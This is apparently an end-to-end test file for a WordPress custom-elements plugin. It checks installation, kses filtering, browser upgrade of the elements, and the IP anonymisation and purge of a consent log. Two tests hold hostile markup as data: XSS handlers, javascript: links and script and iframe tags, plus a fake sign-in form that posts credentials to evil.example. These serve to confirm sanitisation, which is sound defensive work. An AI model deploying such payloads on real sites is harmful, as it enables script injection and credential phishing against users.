// The plugin in a real WordPress (Debian's 6.1 on MariaDB): installed from
// the built zip through Plugins > Add New > Upload by the admin, as a site
// owner does; then every README snippet and docs demo saved by an Author
// (and a Contributor) through the REST API, in a Custom HTML block and as
// classic content, kept whole by kses, served without a <p> or <br> added
// inside any element, and upgraded in Chromium and Firefox with no console
// error. Hostile markup an Author saves loses its handlers and scripts.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { DOMParser } from 'linkedom';
import { snippets } from '../e2e/snippets.mjs';
import { ENGINES, htmlBlock, inBrowser, logIn, rest, savePost, site, until, watchedPage, ZIP } from './wp.mjs';

let wp;
before(async () => (wp = await site({ plugin: false })));
after(() => wp?.close());

const WORDPRESS_ADDS = new Set(['img loading', 'img decoding']);
const parse = (html) => new DOMParser().parseFromString(`<!doctype html><html><body>${html}</body></html>`, 'text/html');
/** Each snippet in a section of its own, as an author would paste several on one page. */
const SNIPPETS = snippets();
const pasted = SNIPPETS.map((s, i) => `<section id="s${i}">\n${s.trim()}\n</section>\n<p>After snippet ${i}.</p>`).join('\n\n');

/**
 * What matters of a snippet's markup inside its elements: every element under
 * an x-* tag, with its attribute names, in order. kses dropping an attribute,
 * or wpautop adding a <p> or <br>, changes it. WordPress's own image
 * attributes (loading, decoding: wp_filter_content_tags) are left out.
 */
function shapes(doc) {
  return SNIPPETS.map((_, i) => {
    const section = doc.getElementById(`s${i}`);
    if (!section) return `s${i}: missing`;
    const inElement = (el) => [el, ...ancestors(el)].some((a) => a.localName.startsWith('x-'));
    // The nonce field the plugin adds to each contact form is its own, not the snippet's.
    return [...section.querySelectorAll('*')].filter((el) => inElement(el) && el.getAttribute('name') !== 'x_nonce')
      .map((el) => `${el.localName}[${el.getAttributeNames().filter((a) => !WORDPRESS_ADDS.has(`${el.localName} ${a}`)).sort().join(' ')}]`).join(' ');
  });
}
function* ancestors(el) {
  for (let a = el.parentElement; a; a = a.parentElement) yield a;
}
const expected = shapes(parse(pasted));
/** The snippets whose shape differs, each with what was expected and what came: [] when all match. */
const differences = (actual) => actual.flatMap((shape, i) => (shape === expected[i] ? [] : [`s${i}\n  expected ${expected[i]}\n  actual   ${shape}`]));

describe('installed from the zip by the admin', () => {
  it('Plugins > Add New > Upload > Activate', async () => {
    await inBrowser('chromium', async (page) => {
      await logIn(page, wp, 'admin');
      await page.goto(`${wp.url}/wp-admin/plugin-install.php?tab=upload`, { waitUntil: 'domcontentloaded' });
      const input = await page.waitForSelector('#pluginzip');
      await input.uploadFile(ZIP);
      await Promise.all([page.waitForNavigation({ waitUntil: 'domcontentloaded' }), page.click('#install-plugin-submit')]);
      const report = await page.$eval('.wrap', (el) => el.textContent);
      assert.match(report, /Plugin installed successfully/, report.slice(0, 500));
      await Promise.all([page.waitForNavigation({ waitUntil: 'domcontentloaded' }), page.click('a.button-primary[href*="action=activate"]')]);
      assert.match(await page.$eval('#message', (el) => el.textContent), /Plugin activated/);
    });
    assert.match(wp.sql("SELECT option_value FROM wp_options WHERE option_name = 'active_plugins'"), /x-elements\/x-elements\.php/);
  });
});

describe('what an Author pastes', () => {
  const pages = {};
  before(async () => {
    pages.block = await savePost(wp, 'author', { title: 'Snippets in a Custom HTML block', content: htmlBlock(pasted) });
    pages.classic = await savePost(wp, 'author', { title: 'Snippets as classic content', content: pasted });
  });

  for (const kind of ['block', 'classic']) {
    it(`${kind}: kses keeps every element and attribute (the Author has no unfiltered_html)`, () => {
      assert.deepEqual(differences(shapes(parse(pages[kind].raw))), []);
    });

    it(`${kind}: the page serves them as written (no <p> or <br> inside an element)`, async () => {
      const html = await (await fetch(pages[kind].link)).text();
      assert.deepEqual(differences(shapes(parse(/<body[^>]*>([\s\S]*)<\/body>/.exec(html)[1]))), []);
      assert.match(html, /<script[^>]+src=['"][^'"]*\/wp-content\/plugins\/x-elements\/dist\/x-elements\.js\?ver=[\d.]+['"]/);
      assert.match(html, /window\.xElementsSettings = \{/);
    });
  }

  for (const engine of Object.keys(ENGINES)) {
    it(`${engine}: every element upgrades, no console error`, async () => {
      const browser = await ENGINES[engine]();
      try {
        for (const kind of ['block', 'classic']) {
          const page = await watchedPage(browser);
          await page.goto(pages[kind].link, { waitUntil: 'load' });
          const pending = () => page.evaluate(() => [...document.querySelectorAll('*')]
            .filter((e) => e.localName.startsWith('x-') && !e.hasAttribute('data-x-ready') && !e.hasAttribute('data-x-error')).map((e) => e.localName));
          await until(async () => (await pending()).length === 0, `${kind}: elements upgraded (${(await pending()).join(', ')})`, 20_000);
          const failed = await page.evaluate(() => [...document.querySelectorAll('[data-x-error]')].map((e) => `${e.localName}: ${e.getAttribute('data-x-error')}`));
          assert.deepEqual({ kind, failed, problems: page.problems }, { kind, failed: [], problems: [] });
          // And they answer: a tab and a toggle by their main interaction.
          const second = () => page.evaluate(() => {
            const tabs = document.querySelector('x-tabs');
            return { selected: tabs.querySelectorAll('[slot="tab"]')[1].getAttribute('aria-selected'), panelHidden: tabs.querySelectorAll(':scope > div')[1].hasAttribute('hidden') };
          });
          await page.evaluate(() => document.querySelector('x-tabs').querySelectorAll('[slot="tab"]')[1].click());
          await until(async () => (await second()).selected === 'true', `${kind}: the second tab selected`);
          assert.deepEqual(await second(), { selected: 'true', panelHidden: false }, `${kind}: the second tab`);
          await page.evaluate(() => {
            const toggle = document.querySelector('x-toggle:not([open])');
            toggle.setAttribute('data-test-toggle', '');
            toggle.shadowRoot.querySelector('[part="trigger"]').click();
          });
          await until(() => page.evaluate(() => document.querySelector('[data-test-toggle]').hasAttribute('open')), `${kind}: a closed toggle opens`);
          // Each element's file carries the plugin's version too: a new release is never read from a cache.
          const unversioned = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name)
            .filter((name) => name.includes('/dist/elements/') && !/\?ver=[\d.]+$/.test(name)));
          assert.deepEqual(unversioned, []);
          await page.close();
        }
      } finally {
        await browser.close();
      }
    });
  }

  it('a Contributor\'s draft keeps them too', async () => {
    const draft = await savePost(wp, 'contributor', { title: 'A contributor\'s snippets', content: pasted, status: 'draft' });
    assert.deepEqual(differences(shapes(parse(draft.raw))), []);
  });

  it('hostile markup loses its handlers, scripts and javascript: links', async () => {
    const hostile = '<x-tabs onclick="alert(1)" index="0"><button slot="tab" onmouseover="alert(2)">A</button>'
      + '<div><img src="x" onerror="alert(3)"><a href="javascript:alert(4)">link</a><script>alert(5)</script>'
      + '<svg><script>alert(6)</script></svg><iframe src="https://evil.example/"></iframe></div></x-tabs>'
      + '<x-contact-form redirect-url="javascript:alert(7)"><form action="javascript:alert(8)"><input name="x_email" onfocus="alert(9)" autofocus></form></x-contact-form>';
    const { raw } = await savePost(wp, 'author', { title: 'Hostile', content: hostile });
    assert.doesNotMatch(raw, /on(click|mouseover|error|focus)=|javascript:|<script|<iframe|<svg|autofocus/i, raw);
    assert.match(raw, /<x-tabs index="0"><button slot="tab">A<\/button>/);
    assert.match(raw, /<x-contact-form redirect-url="alert\(7\)">/);
    const { json } = await rest(wp, 'author', 'GET', '/wp/v2/users/me?context=edit');
    assert.equal(json.capabilities?.unfiltered_html, undefined, 'the Author has no unfiltered_html');
  });

  it('an Author\'s form gets no password field and no credential autofill, its contact fields keep theirs', async () => {
    const phishing = '<x-contact-form><form action="https://evil.example/x"><input name="log" autocomplete="username">'
      + '<input type="password" name="pwd" autocomplete="current-password"><input type="email" name="x_email" autocomplete="email">'
      + '<input type="tel" name="x_tel" autocomplete="tel"><button type="submit">Continue</button></form></x-contact-form>';
    const { raw } = await savePost(wp, 'author', { title: 'Sign in again', content: phishing });
    assert.doesNotMatch(raw, /type="password"|autocomplete="(username|current-password)"/, raw);
    assert.match(raw, /<input name="log">/);
    assert.match(raw, /<input name="pwd">/);
    assert.match(raw, /<input type="email" name="x_email" autocomplete="email">/);
    assert.match(raw, /<input type="tel" name="x_tel" autocomplete="tel">/);
  });

  it('rate limits count an IPv6 address by its /64 and an IPv4 address, mapped or not, by itself', () => {
    const groups = wp.php("return array_map( 'XElements\\address_group', array( '203.0.113.9', '::ffff:203.0.113.9', '2001:db8:1:2::a', '2001:0DB8:1:2:ffff::', 'bad' ) );");
    assert.deepEqual(groups, ['203.0.113.9', '203.0.113.9', '20010db800010002/64', '20010db800010002/64', 'bad']);
  });

  it('the consent log and form views keep an address without its last byte (IPv6: its first 48 bits); the log is purged daily after two years', () => {
    const kept = wp.php("return array_map( 'XElements\\anonymised_ip', array( '203.0.113.9', '::ffff:203.0.113.9', '2001:db8:1:2::a', 'bad' ) );");
    assert.deepEqual(kept, ['203.0.113.0', '203.0.113.0', '2001:db8:1::', '']);
    assert.ok(wp.php("return (bool) wp_next_scheduled( 'x_elements_purge' );"), 'the purge is scheduled');
    assert.match(wp.sql("SHOW INDEX FROM wp_x_consent_log WHERE Key_name = 'received'"), /received_at/, 'the purge reads an index');
    assert.equal(wp.sql("SELECT autoload FROM wp_options WHERE option_name = 'x_elements_schema'").trim(), 'yes');
    wp.sql(`INSERT INTO wp_x_consent_log (received_at, log_key, request_type, event_log_time, consent_session_id, banner_id)
      VALUES (UTC_TIMESTAMP() - INTERVAL 731 DAY, 'k', 'accept_all', 1, 'past-session', 'b'), (UTC_TIMESTAMP() - INTERVAL 729 DAY, 'k', 'accept_all', 1, 'kept-session', 'b')`);
    wp.php("XElements\\purge_old_records(); return true;");
    assert.equal(wp.sql("SELECT consent_session_id FROM wp_x_consent_log WHERE consent_session_id IN ('past-session', 'kept-session')").trim(), 'kept-session');
  });
});
